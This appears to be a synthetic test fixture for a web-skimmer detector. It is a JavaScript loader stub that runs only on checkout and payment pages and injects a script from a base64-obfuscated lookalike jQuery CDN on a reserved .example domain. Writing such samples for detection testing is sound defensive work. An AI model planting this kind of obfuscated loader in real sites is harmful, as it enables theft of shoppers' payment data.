// Synthetic loader stub for skimwatch tests, shaped like the ones planted in
// theme footers: the lookalike-CDN address is base64 so a search for the
// domain finds nothing. The address is a reserved .example name.
(function () {
  if (!/checkout|onepage|payment/.test(window.location.pathname)) return;
  var s = document.createElement("script");
  s.async = true;
  s.src = atob("aHR0cHM6Ly9jZG4tanF1ZXJ5LXN0YXRpYy5leGFtcGxlL2pxdWVyeS0zLjYuMC5taW4uanM=");
  (document.head || document.documentElement).appendChild(s);
})();
